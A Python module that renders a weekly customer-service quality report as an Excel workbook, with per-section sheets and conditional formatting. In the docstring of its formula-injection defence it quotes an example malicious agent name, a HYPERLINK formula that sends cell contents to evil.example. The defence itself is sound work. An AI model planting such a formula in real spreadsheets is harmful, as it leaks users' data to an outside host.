"""The Excel form of a weekly report (openpyxl): one sheet per section, numbers stored as
numbers (rates as fractions shown as percentages), frozen header rows, and conditional
formatting that colours what is abnormal, so it still works after a manager sorts or edits.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from io import BytesIO
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from qc_engine.channels import channel_zh
from qc_engine.clock import SHANGHAI
from qc_engine.reports.html import SOURCE_ZH
from qc_engine.service.review import status_zh
from qc_engine.taxonomy import CATEGORIES

HEADER_FILL = PatternFill("solid", start_color="1E3A8A", end_color="1E3A8A")
HEADER_FONT = Font(bold=True, color="FFFFFF")
BAD_FILL = PatternFill("solid", start_color="FEE2E2", end_color="FEE2E2")
BAD_FONT = Font(color="991B1B", bold=True)
GOOD_FONT = Font(color="166534")
PERCENT, DECIMAL, INTEGER, SECONDS = "0.0%", "0.0", "#,##0", "0.0"
DATE, MINUTE, SECOND = "yyyy-mm-dd", "yyyy-mm-dd hh:mm", "yyyy-mm-dd hh:mm:ss"
SHEET_NAMES = (
    "概览",
    "趋势",
    "分数分布",
    "问题分类",
    "红线事件",
    "客服表现",
    "客户侧",
    "响应时效",
    "规则准确率",
    "质检员",
    "教学案例",
)


@dataclass(frozen=True)
class Column:
    title: str
    value: Callable[[dict[str, Any]], Any]
    number_format: str | None = None
    width: int = 12


def _table(
    sheet: Worksheet,
    columns: Sequence[Column],
    rows: Sequence[dict[str, Any]],
    *,
    start_row: int = 1,
    empty: str = "（无数据）",
) -> tuple[int, int]:
    """Header at `start_row`, then one row per item; returns the first and last data row."""
    for index, column in enumerate(columns, 1):
        cell = sheet.cell(row=start_row, column=index, value=column.title)
        cell.fill, cell.font = HEADER_FILL, HEADER_FONT
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = max(
            sheet.column_dimensions[letter].width or 0, column.width
        )
    row_number = start_row
    for item in rows:
        row_number += 1
        for index, column in enumerate(columns, 1):
            cell = sheet.cell(row=row_number, column=index, value=column.value(item))
            if column.number_format and isinstance(cell.value, (int, float, date)):
                cell.number_format = column.number_format
    if not rows:
        row_number += 1
        sheet.cell(row=row_number, column=1, value=empty).font = Font(italic=True, color="6B7280")
    sheet.freeze_panes = f"A{start_row + 1}"
    sheet.auto_filter.ref = (
        f"A{start_row}:{get_column_letter(len(columns))}{max(row_number, start_row + 1)}"
    )
    return start_row + 1, row_number


def _mark(
    sheet: Worksheet,
    column: int,
    first: int,
    last: int,
    operator: str,
    value: float,
    *,
    font: Font = BAD_FONT,
    fill: PatternFill | None = BAD_FILL,
) -> None:
    """Colour the cells of a column that compare to `value` (a live Excel rule)."""
    if last < first:
        return
    letter = get_column_letter(column)
    sheet.conditional_formatting.add(
        f"{letter}{first}:{letter}{last}",
        CellIsRule(operator=operator, formula=[repr(float(value))], font=font, fill=fill),
    )


def _mark_formula(sheet: Worksheet, cells: str, formula: str) -> None:
    sheet.conditional_formatting.add(
        cells, FormulaRule(formula=[formula], font=BAD_FONT, fill=BAD_FILL)
    )


def _overview(sheet: Worksheet, report: dict[str, Any]) -> None:
    c, p, o = report["coverage"], report["coverage"]["previous"], report["options"]
    sheet["A1"] = f"质检周报 · {report['period']['label']} · {report['shop'] or '全部店铺'}"
    sheet["A1"].font = Font(bold=True, size=14)
    sheet["A2"] = (
        report["notice"]
        if report["empty"]
        else f"生成时间 {report['generated_at'][:16].replace('T', ' ')}（北京时间）"
    )
    if report["empty"]:
        sheet["A2"].font = Font(bold=True, color="9A3412")

    def delta(now: Any, before: Any) -> Any:
        return (
            now - before
            if isinstance(now, (int, float)) and isinstance(before, (int, float))
            else None
        )

    rows = [
        ("质检会话", c["chats"], p["chats"], INTEGER),
        ("消息", c["messages"], p["messages"], INTEGER),
        ("客服", c["agents"], p["agents"], INTEGER),
        ("店铺", c["shops"], p["shops"], INTEGER),
        ("合格会话", c["passed"], p["passed"], INTEGER),
        ("合格率", c["pass_rate"], p["pass_rate"], PERCENT),
        ("平均分", c["mean_score"], p["mean_score"], DECIMAL),
        ("分数中位数", c["median_score"], None, DECIMAL),
        ("红线事件", c["red_lines"], p["red_lines"], INTEGER),
        ("标记总数", c["flags_raised"], p["flags_raised"], INTEGER),
        ("有效标记", c["flags_standing"], None, INTEGER),
        ("客服侧问题", c["problems"], None, INTEGER),
        ("复核工单", c["work_items"], None, INTEGER),
        ("待复核", c["open"], None, INTEGER),
        ("已复核", c["reviewed"], None, INTEGER),
        ("确认", c["confirmed"], None, INTEGER),
        ("驳回", c["dismissed"], None, INTEGER),
        ("申诉", c["appealed"], None, INTEGER),
        ("申诉改判", c["overturned"], None, INTEGER),
        ("抽检工单", c["samples"], None, INTEGER),
    ]
    items = [
        {"name": n, "now": v, "before": b, "delta": delta(v, b), "format": f} for n, v, b, f in rows
    ]
    columns = [
        Column("指标", lambda r: r["name"], width=16),
        Column("本周", lambda r: r["now"], width=14),
        Column("上周", lambda r: r["before"], width=14),
        Column("变化", lambda r: r["delta"], width=14),
    ]
    first, _ = _table(sheet, columns, items, start_row=4)
    for offset, item in enumerate(items):
        for column in (2, 3, 4):
            cell = sheet.cell(row=first + offset, column=column)
            if isinstance(cell.value, (int, float)):
                cell.number_format = item["format"]
    pass_row = first + [r[0] for r in rows].index("合格率")
    score_row = first + [r[0] for r in rows].index("平均分")
    red_row = first + [r[0] for r in rows].index("红线事件")
    _mark(sheet, 2, pass_row, pass_row, "lessThan", o["target_pass_rate"])
    _mark(sheet, 2, score_row, score_row, "lessThan", o["target_mean_score"])
    _mark(sheet, 2, red_row, red_row, "greaterThan", 0)
    sheet.column_dimensions["A"].width = 18


def _local_time(value: str | None) -> datetime | str | None:
    """A time of the report (ISO 8601 with its offset) as a date-time cell: Excel's have no
    time zone, so it is the Asia/Shanghai wall time, as the rest of the report reads. A text
    that is not a time stays the text it is."""
    if not value:
        return None
    try:
        moment = datetime.fromisoformat(value)
    except ValueError:
        return value
    if moment.tzinfo is not None:
        moment = moment.astimezone(SHANGHAI).replace(tzinfo=None)
    return moment


def _day(value: str | None) -> date | str | None:
    """An ISO date of the report as a date cell (a text that is not a date stays text)."""
    if not value:
        return None
    try:
        return date.fromisoformat(value)
    except ValueError:
        return value


def _writable(value: Any) -> Any:
    """The report with every string cleared of the control characters a workbook cannot
    hold (openpyxl refuses them, and a shop or agent name from outside may carry one):
    each becomes U+FFFD."""
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    if isinstance(value, dict):
        return {k: _writable(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_writable(v) for v in value]
    return value


def build_workbook(report: dict[str, Any]) -> Workbook:
    report = _writable(report)
    o = report["options"]
    book = Workbook()
    opening = book.active
    assert isinstance(opening, Worksheet)  # a new workbook has one worksheet
    sheets = {
        name: (opening if i == 0 else book.create_sheet(name)) for i, name in enumerate(SHEET_NAMES)
    }
    sheets["概览"].title = "概览"
    _overview(sheets["概览"], report)

    sheet = sheets["趋势"]
    first, last = _table(
        sheet,
        [
            Column("周", lambda r: r["week"]),
            Column("周一", lambda r: _day(r["start"]), DATE),
            Column("会话", lambda r: r["chats"], INTEGER),
            Column("平均分", lambda r: r["mean_score"], DECIMAL),
            Column("合格率", lambda r: r["pass_rate"], PERCENT),
            Column("问题数", lambda r: r["problems"], INTEGER),
            Column("问题/百会话", lambda r: r["problems_per_100_chats"], DECIMAL, 14),
        ],
        report["trend"],
    )
    _mark(sheet, 4, first, last, "lessThan", o["target_mean_score"])
    _mark(sheet, 5, first, last, "lessThan", o["target_pass_rate"])

    _table(
        sheets["分数分布"],
        [
            Column("分数段", lambda r: r["bucket"]),
            Column("起", lambda r: r["from"], INTEGER),
            Column("止", lambda r: r["to"], INTEGER),
            Column("会话", lambda r: r["chats"], INTEGER),
            Column("占比", lambda r: r["share"], PERCENT),
        ],
        report["score_distribution"],
    )

    sheet = sheets["问题分类"]
    first, last = _table(
        sheet,
        [
            Column("问题分类", lambda r: r["name"], width=16),
            Column("代码", lambda r: r["code"], width=20),
            Column("红线", lambda r: "是" if r["severity"] == "red_line" else "否", width=8),
            Column("问题数", lambda r: r["flags"], INTEGER),
            Column("占比", lambda r: r["share"], PERCENT),
            Column("每百会话", lambda r: r["per_100_chats"], DECIMAL),
            Column("涉及会话", lambda r: r["chats"], INTEGER),
            Column("扣分合计", lambda r: r["points_lost"], INTEGER),
            Column("复核确认", lambda r: r["confirmed"], INTEGER),
            Column("复核驳回", lambda r: r["rejected"], INTEGER),
            Column("上周", lambda r: r["previous_flags"], INTEGER),
            Column("变化", lambda r: r["change"], INTEGER),
            Column("变化率", lambda r: r["change_pct"], PERCENT),
            Column("上升", lambda r: "是" if r["rising"] else "否", width=8),
        ],
        report["categories"],
        empty="本周没有问题记录",
    )
    _mark(sheet, 12, first, last, "greaterThan", 0)
    _mark_formula(sheet, f"A{first}:A{last}", f'$N{first}="是"')

    sheet = sheets["红线事件"]
    first, last = _table(
        sheet,
        [
            Column("时间", lambda r: _local_time(r["started_at"]), SECOND, 20),
            Column("分类", lambda r: r["category_name"]),
            Column("店铺", lambda r: r["shop"], width=18),
            Column("客服", lambda r: r["agent"]),
            Column("渠道", lambda r: channel_zh(r["channel"]), width=9),
            Column("证据", lambda r: r["evidence"], width=60),
            Column("规则", lambda r: r["rule"], width=22),
            Column("工单", lambda r: r["work_item_id"], INTEGER, 8),
            Column("工单状态", lambda r: status_zh(r["status"])),
            Column("会话", lambda r: r["transcript_id"], width=24),
        ],
        report["red_lines"]["items"],
        empty="本周没有红线事件",
    )
    for offset, item in enumerate(report["red_lines"]["items"]):
        cell = sheet.cell(row=first + offset, column=10)
        cell.hyperlink, cell.style = item["link"], "Hyperlink"
    if report["red_lines"]["shown"] < report["red_lines"]["total"]:
        sheet.cell(
            row=last + 2,
            column=1,
            value=f"共 {report['red_lines']['total']} 起，"
            f"此处列出前 {report['red_lines']['shown']} 起",
        )

    sheet = sheets["客服表现"]
    first, last = _table(
        sheet,
        [
            Column("排名", lambda r: r["rank"], INTEGER, 7),
            Column("客服", lambda r: r["agent"]),
            Column("会话", lambda r: r["chats"], INTEGER, 8),
            Column("平均分", lambda r: r["mean_score"], DECIMAL, 9),
            Column("上周平均分", lambda r: r["previous_mean_score"], DECIMAL),
            Column("较上周", lambda r: r["score_change"], DECIMAL, 9),
            Column("合格率", lambda r: r["pass_rate"], PERCENT, 9),
            Column("上周合格率", lambda r: r["previous_pass_rate"], PERCENT),
            Column("问题", lambda r: r["problems_total"], INTEGER, 8),
            Column("红线", lambda r: r["red_lines"], INTEGER, 8),
            Column("复核确认", lambda r: r["confirmed"], INTEGER, 9),
            *[
                Column(CATEGORIES[code].name_zh, _problem_count(code), INTEGER, 10)
                for code in _agent_problem_codes(report)
            ],
            Column("建议辅导", lambda r: "是" if r["coaching"] else "", width=9),
            Column("辅导原因", lambda r: r["coaching_reason"], width=36),
        ],
        report["agents"],
    )
    coach_column = get_column_letter(12 + len(_agent_problem_codes(report)))
    _mark(sheet, 4, first, last, "lessThan", o["target_mean_score"])
    _mark(sheet, 6, first, last, "lessThan", 0, fill=None)
    _mark(sheet, 7, first, last, "lessThan", o["target_pass_rate"])
    _mark(sheet, 10, first, last, "greaterThan", 0)
    _mark_formula(sheet, f"B{first}:B{last}", f'${coach_column}{first}="是"')

    cu = report["customers"]
    _table(
        sheets["客户侧"],
        [
            Column("会话类型", lambda r: r["label"], width=16),
            Column("会话", lambda r: r["chats"], INTEGER),
            Column("占比", lambda r: r["share"], PERCENT),
            Column("平均分", lambda r: r["mean_score"], DECIMAL),
            Column("合格率", lambda r: r["pass_rate"], PERCENT),
        ],
        [
            {"label": label} | cu[key]
            for label, key in (
                ("买家负面情绪", "negative_emotion"),
                ("投诉风险", "complaint_risk"),
                ("有任一客户信号", "any_signal"),
                ("无客户信号", "no_signal"),
            )
        ],
    )
    _mark(sheets["客户侧"], 4, 2, 5, "lessThan", o["target_mean_score"])

    sheet = sheets["响应时效"]
    standards = report["response"]["standards"]
    rows = [{"agent": "全部", **report["response"]["overall"]}, *report["response"]["agents"]]
    first, last = _table(
        sheet,
        [
            Column("客服", lambda r: r["agent"]),
            Column("首响会话", lambda r: r["first_response"]["chats"], INTEGER),
            Column("首响平均(秒)", lambda r: r["first_response"]["mean"], SECONDS),
            Column("首响中位数(秒)", lambda r: r["first_response"]["median"], SECONDS, 14),
            Column("首响P90(秒)", lambda r: r["first_response"]["p90"], SECONDS),
            Column("首响超标", lambda r: r["first_response"]["over_standard"], INTEGER),
            Column(
                "首响超标占比", lambda r: r["first_response"]["over_standard_share"], PERCENT, 13
            ),
            Column("回复等待会话", lambda r: r["reply_wait"]["chats"], INTEGER, 13),
            Column("回复次数", lambda r: r["reply_wait"]["waits"], INTEGER),
            Column("等待平均(秒)", lambda r: r["reply_wait"]["mean"], SECONDS),
            Column("等待中位数(秒)", lambda r: r["reply_wait"]["median"], SECONDS, 14),
            Column("等待P90(秒)", lambda r: r["reply_wait"]["p90"], SECONDS),
            Column("超长等待会话", lambda r: r["reply_wait"]["chats_over_standard"], INTEGER, 13),
            Column(
                "超长等待占比", lambda r: r["reply_wait"]["chats_over_standard_share"], PERCENT, 13
            ),
        ],
        rows,
    )
    for column in (4, 5):
        _mark(sheet, column, first, last, "greaterThan", standards["first_response_seconds"])
    for column in (11, 12):
        _mark(sheet, column, first, last, "greaterThan", standards["reply_wait_seconds"])
    sheet.cell(
        row=last + 2,
        column=1,
        value=(
            f"标准：首次响应 ≤ {standards['first_response_seconds']:g} 秒，回复等待 ≤ "
            f"{standards['reply_wait_seconds']:g} 秒；等待取每个会话的平均等待，分位数取最近秩"
        ),
    )

    sheet = sheets["规则准确率"]
    first, last = _table(
        sheet,
        [
            Column("来源", lambda r: SOURCE_ZH.get(r["source"], r["source"]), width=8),
            Column("规则", lambda r: r["rule"], width=32),
            Column("问题分类", lambda r: r["category_name"], width=14),
            Column("标记", lambda r: r["flags"], INTEGER, 8),
            Column("有效", lambda r: r["standing"], INTEGER, 8),
            Column("工单", lambda r: r["work_items"], INTEGER, 8),
            Column("已复核", lambda r: r["decided"], INTEGER, 8),
            Column("确认", lambda r: r["confirmed"], INTEGER, 8),
            Column("驳回", lambda r: r["dismissed"], INTEGER, 8),
            Column("改判", lambda r: r["overturned"], INTEGER, 8),
            Column("待复核", lambda r: r["pending"], INTEGER, 8),
            Column("准确率", lambda r: r["precision"], PERCENT, 9),
        ],
        report["qc_system"]["rules"],
        empty="本周没有标记",
    )
    _mark(sheet, 12, first, last, "lessThan", o["target_precision"])

    sheet = sheets["质检员"]
    first, last = _table(
        sheet,
        [
            Column("质检员", lambda r: r["reviewer"], width=18),
            Column("角色", lambda r: r["role"]),
            Column("复核", lambda r: r["decided"], INTEGER),
            Column("确认", lambda r: r["confirmed"], INTEGER),
            Column("驳回", lambda r: r["dismissed"], INTEGER),
            Column("抽检", lambda r: r["samples_reviewed"], INTEGER),
            Column("被改判", lambda r: r["later_overturned"], INTEGER),
            Column("处理申诉", lambda r: r["appeals_decided"], INTEGER),
            Column("维持原判", lambda r: r["appeals_upheld"], INTEGER),
            Column("申诉改判", lambda r: r["appeals_overturned"], INTEGER),
        ],
        report["qc_system"]["reviewers"],
        empty="本周没有复核记录",
    )
    samples = report["qc_system"]["samples"]
    sheet.cell(row=last + 2, column=1, value="抽检（引擎判为无问题的会话）")
    sheet.cell(row=last + 3, column=1, value="已抽检")
    sheet.cell(row=last + 3, column=2, value=samples["reviewed"])
    sheet.cell(row=last + 4, column=1, value="发现漏检")
    sheet.cell(row=last + 4, column=2, value=samples["with_missed_problem"])
    sheet.cell(row=last + 5, column=1, value="漏检率")
    rate = sheet.cell(row=last + 5, column=2, value=samples["miss_rate"])
    rate.number_format = PERCENT

    sheet = sheets["教学案例"]
    first, last = _table(
        sheet,
        [
            Column("分类", lambda r: r["category_name"], width=14),
            Column("店铺", lambda r: r["shop"], width=18),
            Column("客服", lambda r: r["agent"]),
            Column("时间", lambda r: _local_time(r["started_at"]), MINUTE, 17),
            Column("消息", lambda r: r["message"], width=50),
            Column("证据", lambda r: r["evidence"], width=40),
            Column("点评", lambda r: r["note"], width=30),
            Column("质检员", lambda r: r["reviewer"]),
            Column("会话", lambda r: r["transcript_id"], width=24),
        ],
        report["teaching_cases"],
        empty="本周没有教学案例",
    )
    for offset, item in enumerate(report["teaching_cases"]):
        cell = sheet.cell(row=first + offset, column=9)
        cell.hyperlink, cell.style = item["link"], "Hyperlink"
    _as_text(book)
    return book


def _problem_count(code: str) -> Callable[[dict[str, Any]], int]:
    return lambda agent: int(agent["problems"].get(code, 0))


def _agent_problem_codes(report: dict[str, Any]) -> list[str]:
    """The categories that appear in the agents' problems, in the order of the category
    table (the most frequent first)."""
    present = {code for agent in report["agents"] for code in agent["problems"]}
    return [c["code"] for c in report["categories"] if c["code"] in present]


# What a spreadsheet may read as the start of a formula when a cell is typed or re-entered
# (OWASP's list for CSV injection; openpyxl itself writes a string starting with = as one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _as_text(book: Workbook) -> None:
    """Every string cell is text, whatever it starts with. The report writes no formulas,
    and its strings (agent and shop names, messages, evidence, notes) come from outside: an
    agent named `=HYPERLINK("http://evil.example/?leak="&A1)` must not become a live
    formula. A string that could read as one also gets Excel's quote prefix, so it stays
    text when somebody edits the cell."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str):
                    if cell.data_type != "s":
                        cell.data_type = "s"
                    if value.startswith(FORMULA_STARTS):
                        cell.quotePrefix = True


def render_xlsx(report: dict[str, Any]) -> bytes:
    buffer = BytesIO()
    build_workbook(report).save(buffer)
    return buffer.getvalue()
